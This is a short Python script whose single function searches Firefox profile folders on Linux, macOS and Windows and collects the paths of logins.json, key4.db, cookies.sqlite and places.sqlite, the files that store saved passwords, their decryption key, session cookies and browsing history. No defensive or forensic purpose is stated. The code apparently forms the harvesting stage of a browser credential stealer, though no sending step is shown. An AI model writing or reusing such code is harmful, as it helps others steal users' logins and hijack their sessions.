import glob
import os

ROOTS = ["~/.mozilla/firefox", "~/Library/Application Support/Firefox/Profiles", "~/AppData/Roaming/Mozilla/Firefox/Profiles"]
WANTED = ("logins.json", "key4.db", "cookies.sqlite", "places.sqlite")


def collect():
    out = []
    for r in ROOTS:
        for prof in glob.glob(os.path.join(os.path.expanduser(r), "*")):
            out += [os.path.join(prof, w) for w in WANTED if os.path.exists(os.path.join(prof, w))]
    return out
